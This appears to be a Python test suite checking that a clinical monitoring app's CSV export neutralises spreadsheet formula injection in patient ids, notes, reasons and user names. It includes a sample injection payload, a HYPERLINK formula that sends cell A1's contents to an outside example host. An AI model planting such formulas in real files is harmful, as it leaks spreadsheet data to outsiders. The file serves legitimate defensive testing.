"""The CSV for a spreadsheet and for data (issue #22, item 5; docs/exports.md, "For a spreadsheet
or for data"), one vocabulary per column, and the review history in the events file (item 3), on
both backends.

A note, a reason, a patient id or a user name that begins with ``=``, ``+``, ``-`` or ``@`` is a
formula to a spreadsheet: the default file (for a spreadsheet) writes such a text cell with a
``'`` in front, ``--for data`` writes every value exactly. Numbers (``-5.0`` minutes before
dosing), ids and times are never touched."""

from __future__ import annotations

import csv
import io

import pytest

from monitor.export import Selection, export
from monitor.export.csv_out import EVENT_COLUMNS, FORMULA_STARTS, READING_COLUMNS, CsvWriter
from tests.cli.test_cli import Cli
from tests.export.test_export import FULL, at, outdir, read_csv

__all__ = ["outdir"]  # the fixture, used here by name

#: Text that a spreadsheet runs: each as a patient id, a note, a reason, an action.
PATIENT = '=HYPERLINK("http://example.org/?"&A1,"open")'
NOTE = "+1+2 called the pharmacy"
REASON = "-2 mmHg misread"
ACTION = "@SUM(A1:A9) rechecked"
QUOTED = "'already quoted"


def risky(service, clock) -> int:
    """A ketamine-im session whose typed text begins with formula characters everywhere it
    can: the patient id, a user's name, a note before dosing, a correction's and a void's
    reasons, an acknowledgement, an adverse event, a discharge before the minimum overridden;
    signed, reopened and signed again."""
    service.add_user("@eve", "nurse", "3456", by="sam")
    clock.set(at(-20))
    sid = service.start_session(patient=PATIENT, protocol="ketamine-im", by="ana")
    clock.set(at(-6))
    service.add_event(sid, kind="note", by="@eve", text=NOTE)
    clock.set(at(-5))
    before = service.record_reading(sid, FULL, by="@eve")
    clock.set(at(0))
    service.record_dose(sid, by="ana")
    clock.set(at(10))
    service.add_event(
        sid, kind="adverse", type="nausea", severity="moderate", by="ana", text=QUOTED
    )
    clock.set(at(15))
    high = service.record_reading(sid, "186/100 hr 90 spo2 97 moaas 5", by="ana")
    clock.set(at(16))
    service.acknowledge_many(
        [f.id for f in high.flags if f.severity.needs_action], by="ana", action=ACTION
    )
    clock.set(at(20))
    service.amend(before.id, "128/80", by="@eve", reason=REASON)
    clock.set(at(30))
    wrong = service.record_reading(sid, "hr 60", by="ana")
    clock.set(at(31))
    service.void(wrong.id, by="ana", reason="=entered twice")
    clock.set(at(35))
    service.record_reading(sid, "124/80 hr 70 spo2 98 rr 14 moaas 5 cadss 0", by="ana")
    clock.set(at(40))
    service.discharge(
        sid,
        by="ana",
        override_reason="-transferred",
        escort="partner",
        instructions_given=True,
        cosign="sam",
    )
    clock.set(at(100))
    service.sign(sid, by="sam", pin="9999")
    clock.set(at(110))
    service.reopen(sid, by="sam", reason="+add the late note")
    clock.set(at(120))
    service.sign(sid, by="sam", pin="9999")
    return sid


@pytest.fixture
def session(service, clock) -> int:
    return risky(service, clock)


def both(service, sid, outdir, what: str) -> tuple[list[dict], list[dict], bytes]:
    """The rows of the default file and of ``--for data``, and the default file's bytes."""
    safe, data = outdir / f"{what}-sheet.csv", outdir / f"{what}-data.csv"
    export(service, Selection(ids=(sid,)), "csv", safe, what=what)
    export(service, Selection(ids=(sid,)), "csv", data, what=what, csv_for="data")
    return read_csv(safe), read_csv(data), safe.read_bytes()


def unescaped(rows: list[dict], columns: tuple[str, ...]) -> list[dict]:
    """The default file's rows with one ``'`` taken off each text cell that begins with one:
    what the data file holds (docs/exports.md)."""
    numbers = {c for c in columns if c.endswith(("_id", "_at", "at", "_dosing"))} | {
        "systolic",
        "diastolic",
        "heart_rate",
        "spo2",
        "resp_rate",
        "moaas",
        "cadss",
        "superseded_by",
        "corrects",
    }
    return [
        {k: v[1:] if k not in numbers and v.startswith("'") else v for k, v in row.items()}
        for row in rows
    ]


def test_no_text_cell_of_the_default_file_begins_with_a_formula(service, session, outdir):
    for what, columns in (("readings", READING_COLUMNS), ("events", EVENT_COLUMNS)):
        sheet, data, raw = both(service, session, outdir, what)
        assert tuple(sheet[0]) == tuple(data[0]) == columns
        assert unescaped(sheet, columns) == data  # reversible: one ' off gives the data
        for row in sheet:
            for name, value in row.items():
                if name != "minutes_after_dosing":
                    assert value[:1] not in FORMULA_STARTS - {"'"}, (what, name, value)
        assert all(r["patient"] == "'" + PATIENT for r in sheet)
        assert all(r["patient"] == PATIENT for r in data)
        assert b"\r\n" in raw and not raw.startswith(b"\xef\xbb\xbf")


def test_readings_text_escaped_numbers_and_times_untouched(service, session, outdir):
    sheet, data, _ = both(service, session, outdir, "readings")
    original = next(r for r in data if r["status"] == "superseded")
    # Before dosing: a negative number, the same in both files, never given a '.
    assert original["minutes_after_dosing"] == "-5.0"
    assert [r["minutes_after_dosing"] for r in sheet] == [r["minutes_after_dosing"] for r in data]
    for name in ("session_id", "reading_id", "measured_at", "recorded_at", "systolic", "corrects"):
        assert [r[name] for r in sheet] == [r[name] for r in data], name
    corrected = next(r for r in sheet if r["corrects"])
    assert corrected["correction_reason"] == "'" + REASON
    assert next(r for r in data if r["corrects"])["correction_reason"] == REASON
    assert corrected["recorded_by"] == "'@eve"
    void = next(r for r in sheet if r["status"] == "voided")
    assert void["void_reason"] == "'=entered twice"


def test_events_text_escaped_in_the_default_file_exact_in_data(service, session, outdir):
    sheet, data, _ = both(service, session, outdir, "events")
    by_kind = {kind: [r for r in data if r["kind"] == kind] for kind in {r["kind"] for r in data}}
    (note,) = by_kind["note"]
    assert (note["text"], note["by"], note["minutes_after_dosing"]) == (NOTE, "@eve", "-6.0")
    (safe_note,) = [r for r in sheet if r["kind"] == "note"]
    assert (safe_note["text"], safe_note["by"]) == ("'" + NOTE, "'@eve")
    assert safe_note["minutes_after_dosing"] == "-6.0"  # a number: never escaped
    assert {r["text"] for r in by_kind["acknowledgement"]} == {ACTION}
    assert {r["text"] for r in sheet if r["kind"] == "acknowledgement"} == {"'" + ACTION}
    # A text that begins with ' is given one more, so that one taken off is the text.
    assert [r["text"] for r in sheet if r["kind"] == "adverse"] == ["''already quoted"]
    assert [r["text"] for r in by_kind["adverse"]] == [QUOTED]
    assert [r["text"] for r in sheet if r["kind"] == "discharge override"] == ["'-transferred"]


def test_one_vocabulary_per_column(service, session, outdir):
    _, data, _ = both(service, session, outdir, "events")
    kinds = {r["kind"] for r in data}
    assert {"note", "adverse", "acknowledgement", "signoff", "reopen"} <= kinds
    severity = {r["kind"]: set() for r in data}
    flag_severity = {r["kind"]: set() for r in data}
    for r in data:
        severity[r["kind"]].add(r["severity"])
        flag_severity[r["kind"]].add(r["flag_severity"])
    assert severity["adverse"] == {"moderate"} and flag_severity["adverse"] == {""}
    assert flag_severity["acknowledgement"] == {"high", "medium"}
    assert severity["acknowledgement"] == {""}
    everywhere_severity = {v for values in severity.values() for v in values}
    everywhere_flag = {v for values in flag_severity.values() for v in values}
    assert everywhere_severity <= {"", "mild", "moderate", "severe"}
    assert everywhere_flag <= {"", "high", "medium", "low"}
    assert EVENT_COLUMNS[-1] == "flag_severity"  # added at the end, as the contract allows


def test_every_sign_off_and_reopening_is_a_row_in_order(service, session, outdir):
    _, data, _ = both(service, session, outdir, "events")
    review = [
        (r["kind"], r["by"], r["at"], r["text"]) for r in data if r["kind"] in ("signoff", "reopen")
    ]
    assert review == [
        ("signoff", "sam", at(100).isoformat(), "reviewed (withdrawn)"),
        ("reopen", "sam", at(110).isoformat(), "+add the late note"),
        ("signoff", "sam", at(120).isoformat(), "reviewed"),
    ]
    assert [r["at"] for r in data] == sorted(r["at"] for r in data)
    assert data[-3:] == [r for r in data if r["kind"] in ("signoff", "reopen")]


def test_the_writer_escapes_tab_return_and_full_width_signs_in_text_columns_only():
    out = io.BytesIO()
    writer = CsvWriter(out, ("session_id", "minutes_after_dosing", "text", "by"))
    values = ["\tx", "\rx", "\uff1dSUM(1)", "＠x", "plain", "", None, "a=b", "'"]
    writer.write([(1, "-5.0", value, value) for value in values])
    rows = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8"))))[1:]
    assert [r[1] for r in rows] == ["-5.0"] * len(values)
    assert [r[2] for r in rows] == [
        "'\tx",
        "'\rx",
        "'\uff1dSUM(1)",
        "'＠x",
        "plain",
        "",
        "",
        "a=b",
        "''",
    ]
    assert [r[3] for r in rows] == [r[2] for r in rows]
    exact = io.BytesIO()
    CsvWriter(exact, ("text",), spreadsheet=False).write([("=1+1",), ("-x",)])
    assert exact.getvalue().decode("utf-8").split("\r\n")[1:3] == ["=1+1", "-x"]


def test_the_readings_file_is_byte_for_byte_what_the_csv_module_writes(service, session, outdir):
    """The readings' lines are made without the csv module (monitor.export.csv_readings):
    read back and written again by the module, each file is the same bytes."""
    for csv_for in ("spreadsheet", "data"):
        path = outdir / f"{csv_for}.csv"
        export(service, Selection(ids=(session,)), "csv", path, csv_for=csv_for)
        raw = path.read_bytes()
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))
        assert any("\n" in cell for row in rows for cell in row)  # two flags in one cell
        assert any('"' in cell and "," in cell for row in rows for cell in row)
        again = io.StringIO(newline="")
        csv.writer(again).writerows(rows)
        assert again.getvalue().encode("utf-8") == raw, csv_for


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_a_measure_held_as_text_is_written_as_the_csv_module_writes_it(service, session, outdir):
    """SQLite does not enforce a column's type: a measure written there by hand as text (a
    comma and a quote in it) is in its own cell, exactly (docs/storage.md, "Unreadable
    records": the record names it unreadable; the CSV keeps what is stored)."""
    reading = service.session(session).readings[-1].id
    with service.engine.begin() as connection:
        connection.exec_driver_sql("DROP TRIGGER IF EXISTS readings_no_update")
        connection.exec_driver_sql(
            f"""UPDATE readings SET systolic = '1,"2', spo2 = 'x' WHERE id = {reading}"""
        )
    path = outdir / "odd.csv"
    export(service, Selection(ids=(session,)), "csv", path, csv_for="data")
    [row] = [r for r in read_csv(path) if r["reading_id"] == str(reading)]
    assert (row["systolic"], row["diastolic"], row["spo2"]) == ('1,"2', "80", "x")


# -- the command line ---------------------------------------------------------------------


def test_the_command_writes_for_a_spreadsheet_unless_told_for_data(
    db_url, service, session, outdir
):
    run = Cli(db_url)
    sheet, data = outdir / "sheet.csv", outdir / "data.csv"
    run("export", str(session), "--format", "csv", "-o", str(sheet))
    run("export", str(session), "--format", "csv", "--for", "data", "-o", str(data))
    assert read_csv(sheet)[0]["patient"] == "'" + PATIENT
    assert read_csv(data)[0]["patient"] == PATIENT
    spread = outdir / "spread.csv"
    run("export", str(session), "--format", "csv", "--what", "events", "--for", "spreadsheet",
        "-o", str(spread))  # fmt: skip
    assert {r["patient"] for r in read_csv(spread)} == {"'" + PATIENT}
    line = run.refused("export", str(session), "--format", "json", "--for", "data", "-o",
                       str(outdir / "x.jsonl"))  # fmt: skip
    assert "--for data says what a CSV is for: give --format csv with it" in line
    assert "--for" in run.refused(
        "export", str(session), "--format", "csv", "--for", "excel", "-o", str(outdir / "y.csv")
    )
    assert not (outdir / "x.jsonl").exists() and not (outdir / "y.csv").exists()
